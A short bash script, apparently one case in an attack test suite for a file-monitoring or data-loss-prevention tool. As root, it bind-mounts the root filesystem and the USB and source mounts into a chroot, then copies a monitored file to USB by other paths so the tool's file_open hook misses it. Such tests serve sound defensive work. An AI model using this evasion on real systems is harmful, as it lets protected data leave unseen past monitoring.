#!/usr/bin/env bash
# technique: a process with another root reads and writes by other paths
# hooks: file_open
# sink: usb
# as: root

. attack.sh
mkdir -p "$ROOM/root"
mount --bind / "$ROOM/root"
mount --bind "$(findmnt -no TARGET -T "$USB")" "$ROOM/root$(findmnt -no TARGET -T "$USB")"
mount --bind "$(findmnt -no TARGET -T "$SCAN")" "$ROOM/root$(findmnt -no TARGET -T "$SCAN")"
chroot "$ROOM/root" cp "$SCAN" "$COPY"
umount -R --lazy "$ROOM/root"
